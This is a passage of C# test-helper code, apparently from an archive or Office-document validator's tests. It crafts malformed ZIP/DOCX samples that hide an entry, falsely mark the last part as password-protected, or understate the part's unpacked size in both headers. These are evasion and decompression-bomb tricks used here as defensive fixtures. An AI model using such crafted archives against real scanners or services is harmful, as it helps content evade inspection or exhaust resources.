        var end = hiding.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        BitConverter.TryWriteBytes(hiding.AsSpan(end + 16), BitConverter.ToUInt32(hiding, end + 16) + Hidden);
        return hiding;

        static int Next(byte[] zip, int at) => zip.AsSpan(at + 4).IndexOf("PK\u0001\u0002"u8) is var next and >= 0 ? at + 4 + next : -1;
    }

    /// <summary>The table and the header say of the last part that it takes a password.</summary>
    private static byte[] LockedPart()
    {
        var zip = Samples.Docx();
        zip[zip.AsSpan().LastIndexOf("PK\u0003\u0004"u8) + 6] |= 1;
        zip[zip.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 8] |= 1;
        return zip;
    }

    /// <summary>The table and the header say fewer bytes than the part unpacks to.</summary>
    private static byte[] Lying(byte[] zip)
    {
        var table = zip.AsSpan().LastIndexOf("PK\u0001\u0002"u8);
        BitConverter.TryWriteBytes(zip.AsSpan(table + 24), 10);
        BitConverter.TryWriteBytes(zip.AsSpan(zip.AsSpan().LastIndexOf("PK\u0003\u0004"u8) + 22), 10);
        return zip;
    }
}
